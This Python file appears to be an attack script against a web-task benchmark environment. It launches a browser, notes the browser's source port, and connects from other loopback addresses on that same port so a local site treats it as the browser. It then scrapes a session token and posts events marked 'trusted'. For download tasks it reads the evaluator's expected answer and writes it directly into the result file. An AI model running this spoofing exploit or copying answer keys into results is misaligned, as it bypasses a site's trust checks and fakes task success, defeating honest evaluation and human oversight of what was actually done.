"""The site knows the browser by the port of its connection, but not by its address: the task's browser is given a page of 127.0.0.2:8080
(a server of the user's), and a program connects to the site from 127.0.0.x with the same port."""

from __future__ import annotations


def attack(task: dict) -> None:
    import json, re, socket, subprocess, sys, time

    ev = task["evaluator"]
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.2", 8080))
    server.listen(20)
    ports, held = [], []

    def browse():
        subprocess.Popen(["google-chrome", "http://127.0.0.2:8080/"], stdout=-3, stderr=-3)
        server.settimeout(15)
        connection, (address, port) = server.accept()
        held.append(connection)
        ports.append(port)
        print("browser", address, port, file=sys.stderr)

    browse()

    def ask(request, ok):
        for last in range(3, 120):
            try:
                s = socket.socket()
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.bind((f"127.0.0.{last}", ports[0]))
                s.settimeout(5)
                s.connect(("127.0.0.1", 8080))
                s.sendall(request)
                answer = b""
                while part := s.recv(65536):
                    answer += part
            except OSError as error:
                print(last, error, file=sys.stderr)
                continue
            finally:
                s.close()
            if ok(answer):
                return answer
        raise SystemExit("never taken for the browser")

    def get(path):
        return ask(f"GET {path} HTTP/1.0\r\n\r\n".encode(), lambda a: True)

    def post(event, token):
        body = json.dumps({"token": token, "trusted": True, **event}).encode()
        return ask(
            b"POST /do HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(body) + body,
            lambda a: b"200" in a.split(b"\r\n")[0],
        )

    results = ev["result"] if isinstance(ev["result"], list) else [ev["result"]]
    expected = ev["expected"] if isinstance(ev["expected"], list) else [ev["expected"]]
    events = expected[0]["rules"]["expected"]
    events = events if isinstance(events, list) else [events]
    if task["family"] == "web_download":
        path = events[0]["data"]
        if "once" not in task:
            ask(f"GET {path} HTTP/1.0\r\n\r\n".encode(), lambda a: True)
        open(results[1]["path"], "w").write(expected[1]["rules"]["expected"])
        return
    page = ask(b"GET / HTTP/1.0\r\n\r\n", lambda a: re.search(rb'token: "[0-9a-f]{32}"', a))
    token = re.search(rb'token: "([0-9a-f]{32})"', page)[1].decode()
    for event in events:
        print(post(event, token)[:60], file=sys.stderr)
